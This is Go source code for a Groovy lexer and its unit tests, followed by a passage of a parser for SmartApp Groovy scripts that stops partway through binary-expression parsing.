			return mk(Decr, 2)
		case '=':
			return mk(MinusAssign, 2)
		case '>':
			return mk(Arrow, 2)
		}
		return mk(Minus, 1)
	case '*':
		switch c1 {
		case '*':
			return mk(Power, 2)
		case '=':
			return mk(StarAssign, 2)
		}
		return mk(Star, 1)
	case '/':
		if c1 == '=' {
			return mk(SlashAssign, 2)
		}
		return mk(Slash, 1)
	case '%':
		return mk(Percent, 1)
	case '<':
		if c1 == '=' {
			if lx.peekByteAt(2) == '>' {
				return mk(Compare, 3)
			}
			return mk(LtEq, 2)
		}
		return mk(Lt, 1)
	case '>':
		if c1 == '=' {
			return mk(GtEq, 2)
		}
		return mk(Gt, 1)
	case '!':
		if c1 == '=' {
			return mk(NotEq, 2)
		}
		return mk(Not, 1)
	case '&':
		if c1 == '&' {
			return mk(AndAnd, 2)
		}
	case '|':
		if c1 == '|' {
			return mk(OrOr, 2)
		}
	case '?':
		switch c1 {
		case '.':
			return mk(SafeDot, 2)
		case ':':
			return mk(Elvis, 2)
		}
		return mk(Question, 1)
	case '@':
		// Annotations (e.g. @Field) — lex the annotation name away.
		lx.off++
		for lx.off < len(lx.src) && isIdentByteOrRune(lx.src, lx.off) {
			lx.off++
		}
		return lx.Next()
	}
	return Token{}, &LexError{Pos: p, Msg: fmt.Sprintf("unexpected character %q", c)}
}

func firstRune(s string) rune {
	r, _ := utf8.DecodeRuneInString(s)
	return r
}

// isIdentByteOrRune reports whether the byte at off continues an
// identifier, treating multi-byte runes via utf8 only when needed.
func isIdentByteOrRune(s string, off int) bool {
	c := s[off]
	if c < utf8.RuneSelf {
		return c == '_' || c == '$' || (c|0x20) >= 'a' && (c|0x20) <= 'z' || c >= '0' && c <= '9'
	}
	r, _ := utf8.DecodeRuneInString(s[off:])
	return isIdentPart(r)
}

func isIdentStart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r) || unicode.IsDigit(r)
}

func (lx *Lexer) lexIdent(p Pos) Token {
	src := lx.src
	start := lx.off
	for lx.off < len(src) {
		c := src[lx.off]
		if c < utf8.RuneSelf {
			if c == '_' || c == '$' || (c|0x20) >= 'a' && (c|0x20) <= 'z' || c >= '0' && c <= '9' {
				lx.off++
				continue
			}
			break
		}
		r, sz := utf8.DecodeRuneInString(src[lx.off:])
		if !isIdentPart(r) {
			break
		}
		lx.off += sz
	}
	text := src[start:lx.off]
	if k, ok := keywords[text]; ok {
		return lx.emit(Token{Kind: k, Text: text, Pos: p})
	}
	return lx.emit(Token{Kind: IDENT, Text: text, Pos: p})
}

func (lx *Lexer) lexNumber(p Pos) Token {
	src := lx.src
	start := lx.off
	for lx.off < len(src) && isDigit(src[lx.off]) {
		lx.off++
	}
	// Decimal part; be careful not to consume a range operator "..".
	if lx.off < len(src) && src[lx.off] == '.' && isDigit(lx.peekByteAt(1)) {
		lx.off++
		for lx.off < len(src) && isDigit(src[lx.off]) {
			lx.off++
		}
	}
	end := lx.off
	// Type suffixes (L, G, f, d, etc.) — consume without entering the text.
	if lx.off < len(src) {
		switch src[lx.off] {
		case 'L', 'l', 'G', 'g', 'F', 'f', 'D', 'd', 'I', 'i':
			lx.off++
		}
	}
	return lx.emit(Token{Kind: NUMBER, Text: src[start:end], Pos: p})
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func (lx *Lexer) lexSingleString(p Pos) (Token, error) {
	src := lx.src
	lx.off++ // opening quote
	start := lx.off
	// Fast path: no escapes — the token text is a substring of src.
	for i := lx.off; i < len(src); i++ {
		switch src[i] {
		case '\'':
			text := src[start:i]
			for j := start; j < i; j++ {
				if src[j] == '\n' {
					lx.markLine(j)
				}
			}
			lx.off = i + 1
			return lx.emit(Token{Kind: STRING, Text: text, Pos: p}), nil
		case '\\':
			return lx.lexSingleStringSlow(p, start, i)
		}
	}
	return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
}

// lexSingleStringSlow handles escapes; esc is the offset of the first '\\'.
func (lx *Lexer) lexSingleStringSlow(p Pos, start, esc int) (Token, error) {
	src := lx.src
	var sb strings.Builder
	// The fast path stopped at the escape without line accounting; count
	// any newlines in the prefix it already scanned.
	for j := start; j < esc; j++ {
		if src[j] == '\n' {
			lx.markLine(j)
		}
	}
	sb.WriteString(src[start:esc])
	i := esc
	for i < len(src) {
		c := src[i]
		if c == '\n' {
			lx.markLine(i)
		}
		i++
		if c == '\'' {
			lx.off = i
			return lx.emit(Token{Kind: STRING, Text: sb.String(), Pos: p}), nil
		}
		if c == '\\' {
			if i >= len(src) {
				return Token{}, &LexError{Pos: p, Msg: "unterminated escape in string literal"}
			}
			if src[i] == '\n' {
				lx.markLine(i)
			}
			sb.WriteByte(unescape(src[i]))
			i++
			continue
		}
		sb.WriteByte(c)
	}
	return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
}

// lexDoubleString lexes a double-quoted GString. The token text preserves
// ${...} interpolation markers verbatim; the parser splits them. Without
// escapes the token text is a substring of src.
func (lx *Lexer) lexDoubleString(p Pos) (Token, error) {
	src := lx.src
	lx.off++ // opening quote
	start := lx.off
	depth := 0 // ${ ... } nesting
	for i := lx.off; i < len(src); i++ {
		c := src[i]
		switch {
		case c == '"' && depth == 0:
			text := src[start:i]
			for j := start; j < i; j++ {
				if src[j] == '\n' {
					lx.markLine(j)
				}
			}
			lx.off = i + 1
			return lx.emit(Token{Kind: GSTRING, Text: text, Pos: p}), nil
		case c == '\\' && depth == 0:
			return lx.lexDoubleStringSlow(p, start, i, depth)
		case c == '$' && i+1 < len(src) && src[i+1] == '{':
			depth++
			i++
		case depth > 0 && c == '{':
			depth++
		case depth > 0 && c == '}':
			depth--
		}
	}
	return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
}

// lexDoubleStringSlow handles escaped GStrings; esc is the offset of the
// first '\\' (encountered at interpolation depth 0).
func (lx *Lexer) lexDoubleStringSlow(p Pos, start, esc, depth int) (Token, error) {
	src := lx.src
	var sb strings.Builder
	// Count the newlines in the prefix the fast path scanned (see
	// lexSingleStringSlow).
	for j := start; j < esc; j++ {
		if src[j] == '\n' {
			lx.markLine(j)
		}
	}
	sb.WriteString(src[start:esc])
	i := esc
	for i < len(src) {
		c := src[i]
		if c == '\n' {
			lx.markLine(i)
		}
		i++
		if c == '"' && depth == 0 {
			lx.off = i
			return lx.emit(Token{Kind: GSTRING, Text: sb.String(), Pos: p}), nil
		}
		if c == '\\' && depth == 0 {
			if i >= len(src) {
				return Token{}, &LexError{Pos: p, Msg: "unterminated escape in string literal"}
			}
			n := src[i]
			if n == '\n' {
				lx.markLine(i)
			}
			i++
			if n == '$' {
				sb.WriteString("\\$") // keep escaped-$ distinguishable from interpolation
			} else {
				sb.WriteByte(unescape(n))
			}
			continue
		}
		if c == '$' && i < len(src) && src[i] == '{' {
			depth++
			sb.WriteByte(c)
			sb.WriteByte(src[i])
			i++
			continue
		}
		if depth > 0 {
			if c == '{' {
				depth++
			} else if c == '}' {
				depth--
			}
		}
		sb.WriteByte(c)
	}
	return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
}

func unescape(c byte) byte {
	switch c {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	case '0':
		return 0
	default:
		return c
	}
}
