package groovy

import (
	"strings"
	"testing"
)

func kinds(toks []Token) []Kind {
	out := make([]Kind, len(toks))
	for i, t := range toks {
		out[i] = t.Kind
	}
	return out
}

func mustTokenize(t *testing.T, src string) []Token {
	t.Helper()
	toks, err := Tokenize(src)
	if err != nil {
		t.Fatalf("Tokenize(%q): %v", src, err)
	}
	return toks
}

func TestTokenizeBasics(t *testing.T) {
	tests := []struct {
		src  string
		want []Kind
	}{
		{`def x = 1`, []Kind{KwDef, IDENT, Assign, NUMBER, EOF}},
		{`x == "on"`, []Kind{IDENT, Eq, GSTRING, EOF}},
		{`a && b || !c`, []Kind{IDENT, AndAnd, IDENT, OrOr, Not, IDENT, EOF}},
		{`t > threshold`, []Kind{IDENT, Gt, IDENT, EOF}},
		{`x <= 30`, []Kind{IDENT, LtEq, NUMBER, EOF}},
		{`a ?: b`, []Kind{IDENT, Elvis, IDENT, EOF}},
		{`a ? b : c`, []Kind{IDENT, Question, IDENT, Colon, IDENT, EOF}},
		{`evt?.value`, []Kind{IDENT, SafeDot, IDENT, EOF}},
		{`{ evt -> x }`, []Kind{LBrace, IDENT, Arrow, IDENT, RBrace, EOF}},
		{`1..5`, []Kind{NUMBER, Range, NUMBER, EOF}},
		{`x += 2`, []Kind{IDENT, PlusAssign, NUMBER, EOF}},
		{`i++`, []Kind{IDENT, Incr, EOF}},
		{`[:]`, []Kind{LBracket, Colon, RBracket, EOF}},
		{`a <=> b`, []Kind{IDENT, Compare, IDENT, EOF}},
	}
	for _, tt := range tests {
		toks := mustTokenize(t, tt.src)
		got := kinds(toks)
		if len(got) != len(tt.want) {
			t.Errorf("%q: got %v, want %v", tt.src, got, tt.want)
			continue
		}
		for i := range got {
			if got[i] != tt.want[i] {
				t.Errorf("%q: token %d = %s, want %s", tt.src, i, got[i], tt.want[i])
			}
		}
	}
}

func TestTokenizeStrings(t *testing.T) {
	toks := mustTokenize(t, `'plain' "inter${x}polated"`)
	if toks[0].Kind != STRING || toks[0].Text != "plain" {
		t.Errorf("single-quoted: got %v", toks[0])
	}
	if toks[1].Kind != GSTRING || toks[1].Text != "inter${x}polated" {
		t.Errorf("double-quoted: got %v", toks[1])
	}
}

func TestTokenizeStringEscapes(t *testing.T) {
	toks := mustTokenize(t, `'a\'b\n' "c\"d" "e\$f"`)
	if toks[0].Text != "a'b\n" {
		t.Errorf("escape in single: %q", toks[0].Text)
	}
	if toks[1].Text != `c"d` {
		t.Errorf("escape in double: %q", toks[1].Text)
	}
	if toks[2].Text != `e\$f` {
		t.Errorf("escaped dollar should be preserved: %q", toks[2].Text)
	}
}

func TestTokenizeComments(t *testing.T) {
	src := `
// line comment
def x = 1 // trailing
/* block
   comment */ def y = 2
`
	toks := mustTokenize(t, src)
	var idents []string
	for _, tok := range toks {
		if tok.Kind == IDENT {
			idents = append(idents, tok.Text)
		}
	}
	if len(idents) != 2 || idents[0] != "x" || idents[1] != "y" {
		t.Errorf("idents = %v", idents)
	}
}

func TestNewlineSuppressionInParens(t *testing.T) {
	src := "subscribe(tv1,\n  \"switch\",\n  onHandler)"
	toks := mustTokenize(t, src)
	for _, tok := range toks {
		if tok.Kind == NEWLINE {
			t.Fatalf("NEWLINE token emitted inside parentheses: %v", toks)
		}
	}
}

func TestNewlineAfterOperatorSuppressed(t *testing.T) {
	src := "def x = a &&\n b"
	toks := mustTokenize(t, src)
	for i, tok := range toks {
		if tok.Kind == NEWLINE && i < len(toks)-2 {
			t.Fatalf("NEWLINE should be suppressed after &&: %v", toks)
		}
	}
}

func TestNewlineStatementSeparation(t *testing.T) {
	src := "def x = 1\ndef y = 2"
	toks := mustTokenize(t, src)
	sawNewline := false
	for _, tok := range toks {
		if tok.Kind == NEWLINE {
			sawNewline = true
		}
	}
	if !sawNewline {
		t.Fatalf("expected a NEWLINE between statements: %v", toks)
	}
}

func TestTokenizeNumbers(t *testing.T) {
	toks := mustTokenize(t, `1 2.5 100L 3.14f`)
	want := []string{"1", "2.5", "100", "3.14"}
	var got []string
	for _, tok := range toks {
		if tok.Kind == NUMBER {
			got = append(got, tok.Text)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("numbers = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("number %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestRangeVsDecimal(t *testing.T) {
	toks := mustTokenize(t, `1..5`)
	if toks[0].Kind != NUMBER || toks[1].Kind != Range || toks[2].Kind != NUMBER {
		t.Errorf("1..5 should lex as NUMBER Range NUMBER, got %v", kinds(toks))
	}
}

func TestUnterminatedString(t *testing.T) {
	if _, err := Tokenize(`'never ends`); err == nil {
		t.Error("expected error for unterminated single-quoted string")
	}
	if _, err := Tokenize(`"never ends`); err == nil {
		t.Error("expected error for unterminated double-quoted string")
	}
}

func TestUnterminatedBlockComment(t *testing.T) {
	if _, err := Tokenize(`/* never ends`); err == nil {
		t.Error("expected error for unterminated block comment")
	}
}

func TestUnexpectedCharacter(t *testing.T) {
	_, err := Tokenize("def x = #")
	if err == nil {
		t.Fatal("expected error for unexpected character")
	}
	var lexErr *LexError
	if !asLexError(err, &lexErr) {
		t.Fatalf("error should be *LexError, got %T", err)
	}
	if !strings.Contains(lexErr.Msg, "unexpected character") {
		t.Errorf("unexpected message: %s", lexErr.Msg)
	}
}

func asLexError(err error, target **LexError) bool {
	le, ok := err.(*LexError)
	if ok {
		*target = le
	}
	return ok
}

func TestAnnotationSkipped(t *testing.T) {
	toks := mustTokenize(t, "@Field def x = 1")
	if toks[0].Kind != KwDef {
		t.Errorf("annotation should be skipped; first token = %v", toks[0])
	}
}

func TestPositions(t *testing.T) {
	toks := mustTokenize(t, "def x = 1\ndef y = 2")
	// Find the second `def`.
	count := 0
	for _, tok := range toks {
		if tok.Kind == KwDef {
			count++
			if count == 2 {
				if tok.Pos.Line != 2 || tok.Pos.Col != 1 {
					t.Errorf("second def at %v, want 2:1", tok.Pos)
				}
			}
		}
	}
	if count != 2 {
		t.Fatalf("expected 2 def tokens, got %d", count)
	}
}

func TestGStringNestedBraces(t *testing.T) {
	toks := mustTokenize(t, `"v=${m.collect { it }}"`)
	if toks[0].Kind != GSTRING {
		t.Fatalf("expected GSTRING, got %v", toks[0])
	}
	if toks[0].Text != "v=${m.collect { it }}" {
		t.Errorf("nested-brace interpolation mangled: %q", toks[0].Text)
	}
}

// TestStringSlowPathLineTracking pins line accounting when a string
// literal contains a newline BEFORE its first escape: the slow path must
// count the fast-path-scanned prefix's newlines, or every later token's
// position drifts.
func TestStringSlowPathLineTracking(t *testing.T) {
	src := "def m = 'line1\nline2\\t tail'\ndef after = 1\n"
	toks := mustTokenize(t, src)
	var afterTok *Token
	for i := range toks {
		if toks[i].Kind == IDENT && toks[i].Text == "after" {
			afterTok = &toks[i]
		}
	}
	if afterTok == nil {
		t.Fatal("token 'after' not lexed")
	}
	if afterTok.Pos.Line != 3 {
		t.Fatalf("'after' on line %d, want 3", afterTok.Pos.Line)
	}
	// Same for GStrings.
	src = "def m = \"line1\nline2\\t tail\"\ndef after = 1\n"
	toks = mustTokenize(t, src)
	afterTok = nil
	for i := range toks {
		if toks[i].Kind == IDENT && toks[i].Text == "after" {
			afterTok = &toks[i]
		}
	}
	if afterTok == nil || afterTok.Pos.Line != 3 {
		t.Fatalf("gstring: 'after' position wrong: %+v", afterTok)
	}
}
