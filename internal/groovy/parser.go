package groovy

import (
	"fmt"
	"strconv"
	"strings"
)

// ParseError describes a syntax error with its source position.
type ParseError struct {
	Pos Pos
	Msg string
}

func (e *ParseError) Error() string { return fmt.Sprintf("parse error at %s: %s", e.Pos, e.Msg) }

// Parse parses a SmartApp Groovy source file into a Script.
func Parse(src string) (*Script, error) {
	toks, err := Tokenize(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	script := &Script{Methods: map[string]*MethodDecl{}}
	for !p.at(EOF) {
		p.skipSeparators()
		if p.at(EOF) {
			break
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st == nil {
			continue
		}
		if m, ok := st.(*MethodDecl); ok {
			script.Methods[m.Name] = m
		}
		script.Stmts = append(script.Stmts, st)
	}
	return script, nil
}

// MustParse parses src and panics on error. Intended for tests and
// embedded corpus apps that are known to be well-formed.
func MustParse(src string) *Script {
	s, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return s
}

type parser struct {
	toks []Token
	pos  int
}

func (p *parser) cur() Token     { return p.toks[p.pos] }
func (p *parser) at(k Kind) bool { return p.toks[p.pos].Kind == k }

func (p *parser) peek(n int) Token {
	if p.pos+n >= len(p.toks) {
		return p.toks[len(p.toks)-1]
	}
	return p.toks[p.pos+n]
}

func (p *parser) next() Token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) expect(k Kind) (Token, error) {
	if !p.at(k) {
		return Token{}, p.errf("expected %s, found %s", k, p.cur())
	}
	return p.next(), nil
}

func (p *parser) errf(format string, args ...any) error {
	return &ParseError{Pos: p.cur().Pos, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) skipSeparators() {
	for p.at(NEWLINE) || p.at(Semi) {
		p.next()
	}
}

// skipNewlines skips NEWLINE tokens only (used where a statement cannot
// end, e.g. after `else`).
func (p *parser) skipNewlines() {
	for p.at(NEWLINE) {
		p.next()
	}
}

// ---------- Statements ----------

func (p *parser) parseStatement() (Stmt, error) {
	switch p.cur().Kind {
	case KwImport:
		// Consume the whole import line.
		for !p.at(NEWLINE) && !p.at(Semi) && !p.at(EOF) {
			p.next()
		}
		return nil, nil
	case KwDef:
		return p.parseDefStatement()
	case KwIf:
		return p.parseIf()
	case KwSwitch:
		return p.parseSwitch()
	case KwReturn:
		return p.parseReturn()
	case KwFor:
		return p.parseFor()
	case KwWhile:
		return p.parseWhile()
	case KwBreak:
		t := p.next()
		return &BreakStmt{Pos_: t.Pos}, nil
	case KwContinue:
		t := p.next()
		return &ContinueStmt{Pos_: t.Pos}, nil
	case LBrace:
		return p.parseBlock()
	case IDENT:
		// Access modifiers before def: `private def foo() {...}`.
		if isModifier(p.cur().Text) && (p.peek(1).Kind == KwDef || p.peek(1).Kind == IDENT) {
			p.next()
			return p.parseStatement()
		}
		// Labeled statement / DSL entry such as `action: [GET: "x"]` in
		// web-service mappings: skip the label and parse the rest.
		if p.peek(1).Kind == Colon && p.peek(2).Kind != RBracket {
			p.next()
			p.next()
			p.skipNewlines()
			return p.parseStatement()
		}
		// Typed declaration: `String s = ...` / `int i = ...`.
		if p.peek(1).Kind == IDENT && p.peek(2).Kind == Assign {
			p.next() // discard type
			return p.parseDeclAfterDef()
		}
		// Typed method declaration: `void updated() { ... }` — treated as def.
		if isTypeName(p.cur().Text) && p.peek(1).Kind == IDENT && p.peek(2).Kind == LParen {
			p.next()
			return p.parseMethodDecl()
		}
	}
	return p.parseSimpleStatement()
}

func isModifier(s string) bool {
	switch s {
	case "private", "public", "protected", "static", "final":
		return true
	}
	return false
}

func isTypeName(s string) bool {
	switch s {
	case "void", "String", "Integer", "int", "Boolean", "boolean",
		"Double", "double", "Long", "long", "Object", "Map", "List",
		"BigDecimal", "Date", "Number", "float", "Float":
		return true
	}
	return false
}

// parseDefStatement handles both `def name(params) { ... }` (method) and
// `def x [= expr]` (declaration).
func (p *parser) parseDefStatement() (Stmt, error) {
	if _, err := p.expect(KwDef); err != nil {
		return nil, err
	}
	if p.at(IDENT) && p.peek(1).Kind == LParen {
		return p.parseMethodDecl()
	}
	return p.parseDeclAfterDef()
}

func (p *parser) parseDeclAfterDef() (Stmt, error) {
	nameTok, err := p.expect(IDENT)
	if err != nil {
		return nil, err
	}
	d := &DeclStmt{Name: nameTok.Text, Pos_: nameTok.Pos}
	if p.at(Assign) {
		p.next()
		p.skipNewlines()
		d.Init, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return d, nil
}

func (p *parser) parseMethodDecl() (Stmt, error) {
	nameTok, err := p.expect(IDENT)
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	var params []Param
	for !p.at(RParen) {
		p.skipNewlines()
		// Optional type name before the parameter name.
		if p.at(IDENT) && p.peek(1).Kind == IDENT {
			p.next()
		}
		pn, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		param := Param{Name: pn.Text}
		if p.at(Assign) {
			p.next()
			param.Default, err = p.parseExpr()
			if err != nil {
				return nil, err
			}
		}
		params = append(params, param)
		if p.at(Comma) {
			p.next()
		}
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlines()
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	return &MethodDecl{Name: nameTok.Text, Params: params, Body: body, Pos_: nameTok.Pos}, nil
}

func (p *parser) parseBlock() (*Block, error) {
	lb, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	blk := &Block{Pos_: lb.Pos}
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			return blk, nil
		}
		if p.at(EOF) {
			return nil, p.errf("unexpected EOF in block")
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st != nil {
			blk.Stmts = append(blk.Stmts, st)
		}
	}
}

// parseBlockOrSingle parses either a brace block or a single statement
// (wrapping it into a Block), as allowed after if/else/for/while.
func (p *parser) parseBlockOrSingle() (*Block, error) {
	p.skipNewlines()
	if p.at(LBrace) {
		return p.parseBlock()
	}
	st, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	blk := &Block{Pos_: st.Position()}
	blk.Stmts = []Stmt{st}
	return blk, nil
}

func (p *parser) parseIf() (Stmt, error) {
	kw, _ := p.expect(KwIf)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	then, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	st := &IfStmt{Cond: cond, Then: then, Pos_: kw.Pos}
	// An `else` may follow on the same or the next line.
	save := p.pos
	p.skipSeparators()
	if p.at(KwElse) {
		p.next()
		p.skipNewlines()
		if p.at(KwIf) {
			elseIf, err := p.parseIf()
			if err != nil {
				return nil, err
			}
			st.Else = elseIf
		} else {
			blk, err := p.parseBlockOrSingle()
			if err != nil {
				return nil, err
			}
			st.Else = blk
		}
	} else {
		p.pos = save
	}
	return st, nil
}

func (p *parser) parseSwitch() (Stmt, error) {
	kw, _ := p.expect(KwSwitch)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	subj, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlines()
	if _, err := p.expect(LBrace); err != nil {
		return nil, err
	}
	st := &SwitchStmt{Subject: subj, Pos_: kw.Pos}
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			return st, nil
		}
		switch p.cur().Kind {
		case KwCase:
			p.next()
			val, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			st.Cases = append(st.Cases, SwitchCase{Value: val, Body: body})
		case KwDefault:
			p.next()
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			st.Default = body
		default:
			return nil, p.errf("expected case or default in switch, found %s", p.cur())
		}
	}
}

func (p *parser) parseCaseBody() (*Block, error) {
	blk := &Block{Pos_: p.cur().Pos}
	for {
		p.skipSeparators()
		if p.at(KwCase) || p.at(KwDefault) || p.at(RBrace) || p.at(EOF) {
			return blk, nil
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st != nil {
			blk.Stmts = append(blk.Stmts, st)
		}
	}
}

func (p *parser) parseReturn() (Stmt, error) {
	kw, _ := p.expect(KwReturn)
	st := &ReturnStmt{Pos_: kw.Pos}
	if p.at(NEWLINE) || p.at(Semi) || p.at(RBrace) || p.at(EOF) {
		return st, nil
	}
	v, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	st.Value = v
	return st, nil
}

func (p *parser) parseFor() (Stmt, error) {
	kw, _ := p.expect(KwFor)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	st := &ForStmt{Pos_: kw.Pos}
	// for (x in iterable) / for (def x in iterable)
	save := p.pos
	if p.at(KwDef) {
		p.next()
	} else if p.at(IDENT) && p.peek(1).Kind == IDENT && p.peek(2).Kind == KwIn {
		p.next() // type name
	}
	if p.at(IDENT) && p.peek(1).Kind == KwIn {
		name := p.next().Text
		p.next() // in
		it, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		body, err := p.parseBlockOrSingle()
		if err != nil {
			return nil, err
		}
		st.Var, st.Iterable, st.Body = name, it, body
		return st, nil
	}
	p.pos = save
	// C-style loop.
	if !p.at(Semi) {
		init, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		st.Init = init
	}
	if _, err := p.expect(Semi); err != nil {
		return nil, err
	}
	if !p.at(Semi) {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		st.Cond = cond
	}
	if _, err := p.expect(Semi); err != nil {
		return nil, err
	}
	if !p.at(RParen) {
		post, err := p.parseSimpleStatement()
		if err != nil {
			return nil, err
		}
		st.Post = post
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	body, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	st.Body = body
	return st, nil
}

func (p *parser) parseWhile() (Stmt, error) {
	kw, _ := p.expect(KwWhile)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	body, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{Cond: cond, Body: body, Pos_: kw.Pos}, nil
}

// parseSimpleStatement parses expression statements, assignments, and
// paren-free command calls.
func (p *parser) parseSimpleStatement() (Stmt, error) {
	pos := p.cur().Pos
	x, err := p.parseCommandExpr()
	if err != nil {
		return nil, err
	}
	switch p.cur().Kind {
	case Assign, PlusAssign, MinusAssign, StarAssign, SlashAssign:
		op := p.next().Kind
		p.skipNewlines()
		v, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		switch x.(type) {
		case *Ident, *PropertyGet, *IndexGet:
		default:
			return nil, &ParseError{Pos: pos, Msg: "invalid assignment target"}
		}
		return &AssignStmt{Target: x, Op: op, Value: v, Pos_: pos}, nil
	case Incr, Decr:
		op := p.next().Kind
		delta := &NumLit{Raw: "1", Int: 1, IsInt: true, Pos_: pos}
		binOp := Plus
		if op == Decr {
			binOp = Minus
		}
		return &AssignStmt{
			Target: x, Op: Assign,
			Value: &Binary{Op: binOp, L: x, R: delta, Pos_: pos},
			Pos_:  pos,
		}, nil
	}
	return &ExprStmt{X: x, Pos_: pos}, nil
}

// ---------- Expressions ----------

// parseCommandExpr parses an expression, allowing the paren-free command
// syntax at the head (`input "x", "y"`, `log.debug "msg"`, `runIn 60, h`).
func (p *parser) parseCommandExpr() (Expr, error) {
	// Prefix-unary statements (e.g. `!x` alone) fall back to parseExpr.
	if !p.at(IDENT) {
		return p.parseExpr()
	}
	head, err := p.parsePostfix()
	if err != nil {
		return nil, err
	}
	if p.startsCommandArg() {
		callee, ok := calleeOf(head)
		if ok {
			call := &Call{Pos_: head.Position()}
			call.Receiver, call.Method = callee.recv, callee.name
			if err := p.parseArgListInto(call, false); err != nil {
				return nil, err
			}
			return p.continueBinary(call, 0)
		}
	}
	return p.continueBinary(head, 0)
}

type calleeInfo struct {
	recv Expr
	name string
}

func calleeOf(e Expr) (calleeInfo, bool) {
	switch n := e.(type) {
	case *Ident:
		return calleeInfo{nil, n.Name}, true
	case *PropertyGet:
		return calleeInfo{n.Receiver, n.Name}, true
	}
	return calleeInfo{}, false
}

// startsCommandArg reports whether the current token can begin the first
// argument of a paren-free command call.
func (p *parser) startsCommandArg() bool {
	switch p.cur().Kind {
	case STRING, GSTRING, NUMBER, KwTrue, KwFalse, KwNull, LBracket:
		return true
	case IDENT:
		// `foo bar` is a call; but `foo bar = 1` was handled as a typed
		// declaration before we got here, so IDENT is safe.
		// Named first argument `title: "..."` also starts with IDENT.
		return true
	}
	return false
}

// parseExpr parses a full expression (ternary precedence and below).
func (p *parser) parseExpr() (Expr, error) {
	x, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	return p.continueBinary(x, 0)
}

// Binary operator precedence, loosest first.
func precOf(k Kind) int {
	switch k {
	case OrOr:
		return 1
	case AndAnd:
		return 2
	case Eq, NotEq, Compare:
		return 3
	case Lt, LtEq, Gt, GtEq, KwIn, KwInstanceof:
		return 4
	case Range:
		return 5
	case Plus, Minus:
		return 6
	case Star, Slash, Percent:
		return 7
	case Power:
		return 8
	}
	return 0
}

// continueBinary parses binary operators of precedence >= min that follow
// an already-parsed left operand, then ternary/elvis at the top.
func (p *parser) continueBinary(left Expr, min int) (Expr, error) {
	for {
		k := p.cur().Kind
		// `as Type` cast: semantically transparent for analysis.
		if k == IDENT && p.cur().Text == "as" && p.peek(1).Kind == IDENT {
			pos := p.cur().Pos
			p.next()
			ty := p.next().Text
			left = &Call{Receiver: left, Method: "asType",
				Args: []Expr{&StrLit{Value: ty, Pos_: pos}}, Pos_: pos}
			continue
		}
		prec := precOf(k)
		if prec == 0 || prec < min {
			break
		}
		opTok := p.next()
		p.skipNewlines()
		if k == Range {
			hi, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			hi, err = p.climbRight(hi, prec+1)
			if err != nil {
				return nil, err
			}
			left = &RangeLit{Lo: left, Hi: hi, Pos_: opTok.Pos}
			continue
		}
		if k == KwInstanceof {
			// `x instanceof Type` — consume the type, yield a call node.
			ty, err := p.expect(IDENT)
			if err != nil {
				return nil, err
			}
			left = &Call{Receiver: left, Method: "instanceOf",
				Args: []Expr{&StrLit{Value: ty.Text, Pos_: ty.Pos}}, Pos_: opTok.Pos}
			continue
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		right, err = p.climbRight(right, prec+1)
		if err != nil {
			return nil, err
		}
		op := k
		if k == KwIn {
			op = KwIn
		}
